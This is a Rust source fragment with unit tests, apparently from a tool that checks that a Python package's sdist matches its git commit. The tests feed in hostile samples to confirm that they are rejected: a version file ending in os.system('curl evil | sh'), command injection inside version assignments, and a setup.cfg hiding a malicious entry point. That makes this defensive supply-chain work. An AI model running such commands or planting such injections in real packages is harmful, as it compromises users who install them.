    let Ok(info) = serde_json::from_str::<serde_json::Value>(json.as_str()) else {
        return Judgement::differs(rule, "its version_json is not JSON");
    };
    let mut j = Judgement::new(rule);
    match (info["version"].as_str(), package_version(r)) {
        (Some(v), Some(p)) if metadata::normalise_version(v) == metadata::normalise_version(&p) => {
            j.source("the package's metadata");
        }
        (v, p) => j.differ(format!(
            "version {} here, {} in the package's metadata",
            v.unwrap_or("none"),
            p.as_deref().unwrap_or("none")
        )),
    }
    let commit = r.commit.commit.hex();
    if info["full-revisionid"].as_str() != Some(commit.as_str()) {
        j.differ(format!(
            "full-revisionid {} is not the compared commit {commit}",
            info["full-revisionid"]
        ));
    }
    if info["dirty"].as_bool() != Some(false) {
        j.differ("built from a dirty working tree");
    }
    j
}

#[cfg(test)]
mod tests {
    use super::*;

    fn version_of(src: &str) -> Result<Vec<String>, String> {
        version_statements(&pysource::lines(src).expect("lines"))
    }

    #[test]
    fn a_setuptools_scm_version_file_holds_only_its_version() {
        let scm = r#"# file generated by setuptools-scm
# don't change, don't track in version control

__all__ = [
    "__version__",
    "__version_tuple__",
    "version",
    "version_tuple",
    "__commit_id__",
    "commit_id",
]

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Tuple
    from typing import Union

    VERSION_TUPLE = Tuple[Union[int, str], ...]
    COMMIT_ID = Union[str, None]
else:
    VERSION_TUPLE = object
    COMMIT_ID = object

version: str
__version__: str
__version_tuple__: VERSION_TUPLE
version_tuple: VERSION_TUPLE
commit_id: COMMIT_ID
__commit_id__: COMMIT_ID

__version__ = version = '1.2.3'
__version_tuple__ = version_tuple = (1, 2, 3)

__commit_id__ = commit_id = 'g1234abc'
"#;
        assert_eq!(version_of(scm).expect("version file"), ["1.2.3"]);
        let evil = format!("{scm}import os\nos.system('curl evil | sh')\n");
        assert!(version_of(&evil).is_err());
        assert!(version_of("__version__ = '1.0'\nprint('hi')\n").is_err());
        assert!(version_of("__version__ = get_version()\n").is_err());
        assert!(version_of("from os import system\n__version__ = '1'\n").is_err());
        assert_eq!(
            version_of("VERSION = (1, 2)\n").expect("no version"),
            Vec::<String>::new()
        );
    }

    #[test]
    fn only_the_version_assignment_may_be_substituted() {
        let re_lines = |a: &str, b: &str| -> Vec<(String, String)> {
            a.lines()
                .zip(b.lines())
                .filter(|(x, y)| x != y)
                .map(|(x, y)| (x.to_owned(), y.to_owned()))
                .collect()
        };
        // The shapes substituted_version accepts, checked on the pattern it uses.
        let assignment = regex::Regex::new(VERSION_ASSIGNMENT).expect("pattern");
        for (git, sdist) in [
            ("__version__ = \"0.0.0\"\n", "__version__ = \"1.2.3\"\n"),
            ("VERSION: str = '0'\n", "VERSION: str = '2.0'\n"),
        ] {
            for (x, y) in re_lines(git, sdist) {
                assert!(
                    assignment.is_match(&x) && assignment.is_match(&y),
                    "{x} {y}"
                );
            }
        }
        for evil in [
            "__version__ = __import__('os').system('id')",
            "__version__ = \"1\"; import os",
        ] {
            assert!(!assignment.is_match(evil), "{evil}");
        }
    }

    #[test]
    fn setup_cfg_may_gain_only_the_egg_info_tags() {
        let git = "[metadata]\nname=demo  # c\n# comment\nversion = 1.0\n\n[options]\npackages =\n    demo\n";
        let sdist = "[metadata]\nname = demo  # c\nversion = 1.0\n\n[options]\npackages = \n\tdemo\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n";
        assert_eq!(cfg_differences(git, sdist), Vec::<String>::new());
        let evil = sdist.replace(
            "tag_date = 0",
            "tag_date = 0\n[options.entry_points]\nx = y",
        );
        assert!(!cfg_differences(git, &evil).is_empty());
        let changed = sdist.replace("version = 1.0", "version = 1.1");
        assert!(!cfg_differences(git, &changed).is_empty());
        // configparser's reading, not a line reader's: an indented section header continues
        // the value before it, and `[ egg_info]` is another section than `[egg_info]`.
        let hidden = "[metadata]\nname = demo  # c\nversion = 1.0\n\n[options]\npackages = \n\tdemo\n\n[ egg_info]\ntag_build =\n  [options.entry_points]\n  console_scripts = x = evil:main\n";
        assert!(!cfg_differences(git, hidden).is_empty());
        assert_eq!(
            cfg_differences("", "[egg_info]\ntag_build = \ntag_date = 0\n\n"),
            Vec::<String>::new()
        );
        assert!(!cfg_differences("", sdist).is_empty());
        assert!(!cfg_differences(git, "[metadata]\nname = a\nname = b\n").is_empty());
    }
}
